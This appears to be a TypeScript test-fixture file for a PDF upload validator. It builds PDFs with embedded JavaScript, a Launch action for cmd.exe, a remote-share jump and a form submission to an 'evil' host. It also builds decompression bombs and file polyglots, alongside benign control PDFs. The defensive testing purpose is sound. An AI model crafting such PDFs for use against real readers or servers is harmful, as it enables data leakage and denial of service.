import { deflateSync } from 'node:zlib'
import type { Corpus } from './bombs.ts'
import { script } from './pictures.ts'

/** A PDF of one empty page, with more objects or another head if wanted. */
export function pdf({ objects = '', catalogue = '', trailer = '' } = {}): Buffer {
  return Buffer.from(
    `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogue} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n${objects}xref\n0 4\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R ${trailer} >>\nstartxref\n200\n%%EOF\n`,
    'latin1',
  )
}

const hidden = (body: string | Buffer, filter = '/Filter /FlateDecode', more = '') => {
  const packed = deflateSync(body, { level: 1 })
  return `9 0 obj\n<< /Type /ObjStm /N 1 /First 5 ${filter} ${more} /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream\nendobj\n`
}
const action = (name: string, rest = '') => `8 0 obj\n<< /Type /Action /S /${name} ${rest} >>\nendobj\n`
const js = '<< /S /JavaScript /JS (app.alert(1)) >>'

export const acting: Corpus = Object.fromEntries(
  Object.entries({
    'PDF that runs a script': pdf({ objects: action('JavaScript', '/JS (app.alert(1))') }),
    'PDF that runs it on opening': pdf({ catalogue: `/OpenAction ${js}` }),
    'PDF that escapes its names': pdf({ objects: action('J#61va#53cript', '/JS (app.alert(1))') }),
    'PDF that hides it in a packed stream': pdf({ objects: hidden(`8 0 ${js}`) }),
    'PDF that hides it in a plain stream': pdf({
      objects: `9 0 obj\n<< /Type /ObjStm /N 1 /First 5 >>\nstream\n8 0 ${js}\nendstream\nendobj\n`,
    }),
    'PDF that packs it twice': pdf({
      objects: hidden(deflateSync(js), '/Filter [/FlateDecode /FlateDecode]'),
    }),
    'PDF that packs it otherwise': pdf({ objects: hidden(js, '/Filter /LZWDecode') }),
    'PDF that mixes it up': pdf({
      objects: hidden(js, '/Filter /FlateDecode', '/DecodeParms << /Predictor 12 >>'),
    }),
    'PDF that starts a program': pdf({ objects: action('Launch', '/F (cmd.exe)') }),
    'PDF that carries a file': pdf({ objects: '8 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nendobj\n' }),
    'PDF with a list of files': pdf({ catalogue: '/Names << /EmbeddedFiles 8 0 R >>' }),
    'PDF that goes to another': pdf({ objects: action('GoToR', '/F (\\\\\\\\evil\\\\share)') }),
    'PDF that goes inside': pdf({ objects: action('GoToE') }),
    'PDF that sends a form': pdf({ objects: action('SubmitForm', '/F (https://evil.example)') }),
    'PDF that takes data in': pdf({ objects: action('ImportData') }),
    'PDF with a form of programs': pdf({ catalogue: '/AcroForm << /XFA 8 0 R >>' }),
    'PDF with media': pdf({ objects: '8 0 obj\n<< /Subtype /RichMedia >>\nendobj\n' }),
    'PDF with a film': pdf({ objects: action('Rendition') }),
    'PDF behind a password': pdf({ trailer: '/Encrypt 8 0 R' }),
    'PDF behind a password, hidden': pdf({ objects: hidden('8 0 << /Encrypt 3 0 R >>') }),
  }).map(([name, bytes]) => [name, () => bytes]),
)

const behind = (tail: string) => Buffer.concat([pdf(), Buffer.from(tail)])

export const costly: Corpus = {
  'PDF with a bomb': () => pdf({ objects: hidden(Buffer.alloc(100_000_000)) }),
  'PDF of 300 000 streams without end': () => pdf({ objects: 'obj /ObjStm stream\n'.repeat(300_000) }),
  'PDF of 300 000 plain streams': () => pdf({ objects: 'stream\nx endstream\n'.repeat(300_000) }),
  'PDF of a million escapes': () => pdf({ objects: '#2F#4A'.repeat(1_000_000) }),
  'PDF of half-begun openings': () => pdf({ objects: `/OpenAction${' '.repeat(100_000)}`.repeat(30) }),
  'PDF with a page behind it': () => behind(`<!doctype html>${script}`),
  'PDF with an archive behind it': () => behind('PK\x05\x06'),
  'PDF behind a page': () => Buffer.concat([Buffer.from(`<html>${script}`), pdf()]),
  'PDF behind a GIF': () => Buffer.concat([Buffer.from('GIF89a'), pdf()]),
  'PDF of no version': () => Buffer.from('%PDF-x.y\nstartxref\n0\n%%EOF\n'),
  'PDF that is only a head': () => Buffer.from('%PDF-1.7\n'),
}

/** What people send, and what is taken. */
export const goodDocuments: Corpus = {
  'a PDF': () => pdf(),
  'PDF that opens at a page': () => pdf({ catalogue: '/OpenAction [3 0 R /Fit]' }),
  'PDF that goes to a page': () =>
    pdf({ catalogue: '/OpenAction << /Type /Action /S /GoTo /D [3 0 R /Fit] >>' }),
  'PDF with packed objects': () => pdf({ objects: hidden('8 0 << /Type /Annot /Subtype /Link >>') }),
  'PDF with a picture that holds anything': () =>
    pdf({
      objects: `8 0 obj\n<< /Subtype /Image /Filter /FlateDecode >>\nstream\n${Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 7919 + (i % 251) * i) & 255)).toString('latin1')}\nendstream\nendobj\n`,
    }),
}
